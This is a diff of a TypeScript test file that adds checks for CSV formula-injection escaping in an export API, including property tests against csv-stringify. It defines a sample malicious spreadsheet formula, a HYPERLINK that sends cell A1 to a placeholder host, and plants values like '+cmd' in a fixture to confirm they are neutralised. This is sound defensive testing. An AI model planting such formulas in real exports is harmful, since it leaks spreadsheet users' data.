@@ -1,6 +1,7 @@
 /**
- * The CSV export's own parts: the line formatter (byte for byte csv-stringify's output), the bound on exports
- * running at once (503 with Retry-After past it, slots given back however an export ends), on real stores.
+ * The CSV export's own parts: the line formatter (byte for byte csv-stringify's output with `escape_formulas`),
+ * hostile cells neutralised in a real export, the bound on exports running at once (503 with Retry-After past it,
+ * slots given back however an export ends), on real stores.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import fc from 'fast-check';
@@ -9,35 +10,74 @@ import { stringify } from 'csv-stringify/sync';
 import pg from 'pg';
 import { csvLine, EXPORT_COLUMNS, EXPORT_RETRY_AFTER_S, EXPORTS_AT_ONCE, ExportSlots } from '../../src/api/routes/chain-export.js';
 import { Unavailable } from '../../src/domain/errors.js';
+import { DIALECTS } from '../helpers/db.js';
 import { makeBlocks, observationsOf, publicOrder } from '../helpers/observations.js';
 import { apiFixture, responseValidator, type ApiFixture } from './helpers.js';
 
-/** A cell as the export produces them: text (any characters, separators and quotes included), a number, or none. */
+/** A cell as the export produces them: text (any characters, separators, quotes and formula starts), a number, or none. */
 const cell = fc.oneof(
-  fc.string({ unit: fc.constantFrom('a', 'Z', '0', ' ', ',', '"', '\n', '\r', ';', '\t', 'é', '€', '=', '-') }),
+  fc.string({ unit: fc.constantFrom('a', 'Z', '0', ' ', ',', '"', '\n', '\r', ';', '\t', 'é', '€', '=', '-', '+', '@', "'", '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20') }),
   fc.string({ unit: 'grapheme' }),
   fc.double(),
   fc.integer(),
   fc.constant(undefined),
 );
 
+/** csv-stringify leaves a number starting with `-` alone; csvLine prefixes it like any other cell (its docstring). */
+const negativeAsText = (c: string | number | undefined) => (typeof c === 'number' && String(c).startsWith('-') ? String(c) : c);
+
 describe('csvLine', () => {
-  it('writes exactly what csv-stringify writes with default options (fast-check)', () => {
+  it('writes exactly what csv-stringify writes with escape_formulas (fast-check)', () => {
     fc.assert(
       fc.property(fc.array(cell, { minLength: 1, maxLength: 25 }), (cells) => {
-        expect(csvLine(cells)).toBe(stringify([cells]));
+        expect(csvLine(cells)).toBe(stringify([cells.map(negativeAsText)], { escape_formulas: true }));
       }),
       { numRuns: 2000 },
     );
   });
 
   it('writes the header as csv-stringify does', () => {
-    expect(csvLine(EXPORT_COLUMNS)).toBe(stringify([], { header: true, columns: [...EXPORT_COLUMNS] }));
+    expect(csvLine(EXPORT_COLUMNS)).toBe(stringify([], { header: true, columns: [...EXPORT_COLUMNS], escape_formulas: true }));
   });
 
   it('round-trips through a CSV parser', () => {
     const cells = ['a,b', 'say "hi"', 'two\nlines', 'cr\r', '', 'plain'];
     expect(parse(csvLine(cells))).toEqual([cells]);
+  });
+
+  it("prefixes with ' every cell starting with = + - @ tab or CR, numbers included, and drops nothing", () => {
+    const cells = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\uFF1D1', -5, 'a=1', ' =1', "'=1"];
+    const line = csvLine(cells);
+    expect(line).toBe(`'=1+1,'+1,'-1,'@SUM(A1),'\tx,"'\rx",'\uFF1D1,'-5,a=1, =1,'=1\n`);
+    expect(parse(line)).toEqual([["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "'\uFF1D1", "'-5", 'a=1', ' =1', "'=1"]]);
+  });
+});
+
+/** A symbol that runs as a formula in a spreadsheet if written as is (it leaks the row's cell A1). */
+const HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"click")';
+
+describe.each(DIALECTS)('export of hostile text on %s', (dialect) => {
+  const blocks = makeBlocks({ count: 20, seed: 31 });
+  const victim = observationsOf(blocks).find((o) => o.amount !== null)!;
+  Object.assign(victim, { asset: HOSTILE, exchange: '-2+3', protocol: '+cmd', category: '@SUM(1)' });
+  let f: ApiFixture;
+  beforeAll(async () => {
+    f = await apiFixture(dialect, blocks);
+  });
+  afterAll(async () => {
+    await f?.close();
+  });
+
+  it("writes every formula cell with a leading ' and parses back to that text", async () => {
+    const r = await f.app.inject('/api/export');
+    expect(r.statusCode).toBe(200);
+    expect(r.body).toContain(`,"'=HYPERLINK(""http://x.invalid/?""&A1,""click"")",`);
+    const lines = r.body.split('\n');
+    expect(lines.filter((l) => /(^|,)"?[=+\-@\t\r]/.test(l))).toEqual([]);
+    const recs = parse(r.body, { columns: true }) as Record<string, string>[];
+    const rec = recs.find((x) => x.hash === victim.hash)!;
+    expect(rec).toMatchObject({ asset: `'${HOSTILE}`, amount_unit: `'${HOSTILE}`, exchange: "'-2+3", protocol: "'+cmd", category: "'@SUM(1)", amount: victim.amount });
+    expect(recs).toHaveLength(observationsOf(blocks).length);
   });
 });
 
@@ -74,7 +114,8 @@ describe('export limit on postgres (queries held by a table lock)', () => {
   /** Reads pg_stat_activity outside the locking transaction (which would see one snapshot of it). */
   let watcher: pg.Client;
   beforeAll(async () => {
-    f = await apiFixture('postgres', blocks);
+    // Every export here comes from one client: the per-client budget of expensive requests is not under test.
+    f = await apiFixture('postgres', blocks, { heavyPerClient: 16 });
     validate = responseValidator((await f.app.inject('/api/openapi.json')).json());
     locker = new pg.Client({ connectionString: f.db.url });
     await locker.connect();
